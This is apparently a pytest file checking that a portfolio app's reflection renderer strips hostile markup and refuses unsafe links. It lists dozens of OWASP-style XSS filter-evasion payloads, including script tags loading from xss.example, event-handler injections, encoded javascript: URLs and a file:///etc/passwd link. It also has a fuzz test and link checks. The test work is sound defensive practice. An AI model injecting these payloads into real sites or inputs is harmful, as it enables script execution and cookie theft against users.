"""Reflection rendering: OWASP filter-evasion style payloads leave no script, handler or
javascript: link; links get rel="noopener noreferrer"; no images at all."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portfolios.text import LinkRefused, check_link, render_reflection, text_diff
from tests.portfolios.safety import script_problems

# Shapes from the OWASP XSS Filter Evasion Cheat Sheet, plus Markdown-specific ones.
PAYLOADS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    "&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=//xss.example/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAv"
    "c3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv\" AllowScriptAccess=\"always\"></EMBED>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">click</a>",
    "<a href=\"java\nscript:alert(1)\">click</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "[click me](javascript:alert(1))",
    "[click me](JaVaScRiPt:alert(1))",
    "[click me](javascript&#58;alert(1))",
    "[click me](&#106;avascript:alert(1))",
    "[click me](<javascript:alert(1)>)",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a][ref]\n\n[ref]: javascript:alert(1)",
    "![img](https://tracker.example/pixel.png)",
    "![img](javascript:alert(1))",
    "<https://example.org/\" onmouseover=\"alert(1)>",
    "[x](https://example.org/\"onmouseover=\"alert(1))",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    "<base href=\"javascript:alert(1)//\">",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_render_harmless(payload):
    html = str(render_reflection(payload))
    assert script_problems(html) == [], html
    assert "<script" not in html.lower() and "<img" not in html.lower()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_inside_surrounding_markdown(payload):
    html = str(render_reflection(f"# Week one\n\nI did **this**. {payload}\n\n- a\n- {payload}"))
    assert script_problems(html) == [], html


def test_markdown_still_works_and_links_are_safe():
    html = str(render_reflection("# Title\n\nSome *emphasis* and [a guide](https://example.org/g)."
                                 "\n\n1. one\n2. two"))
    assert "<h3>Title</h3>" in html  # headings move below the page's own
    assert "<em>emphasis</em>" in html and "<ol>" in html
    assert '<a href="https://example.org/g" rel="noopener noreferrer">a guide</a>' in html


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("<>\"'=/:;&#() \n[]!`jJavascriptonerrorimgsvg"
                                            "xX0123456789")), max_size=120))
def test_random_markup_soup_never_yields_script(text):
    assert script_problems(str(render_reflection(text))) == []


@pytest.mark.parametrize("url", ["javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:x",
                                 "data:text/html,x", "file:///etc/passwd", "ftp://example.org",
                                 "https://user:pw@example.org", "https://exa mple.org",
                                 "https://example.org/\u202eexe", "http://", "example.org",
                                 "//example.org", "https:\\\\example.org", ""])
def test_bad_links_are_refused(url):
    with pytest.raises(LinkRefused):
        check_link(url)


def test_good_links_pass():
    assert check_link(" https://example.org/a?b=1#c ") == "https://example.org/a?b=1#c"
    assert check_link("http://intranet.example/policy") == "http://intranet.example/policy"


def test_text_diff_marks_lines():
    lines = text_diff("one\ntwo\nthree", "one\n2\nthree\nfour")
    assert [(d.op, d.text) for d in lines] == [
        ("same", "one"), ("removed", "two"), ("added", "2"), ("same", "three"), ("added", "four")]
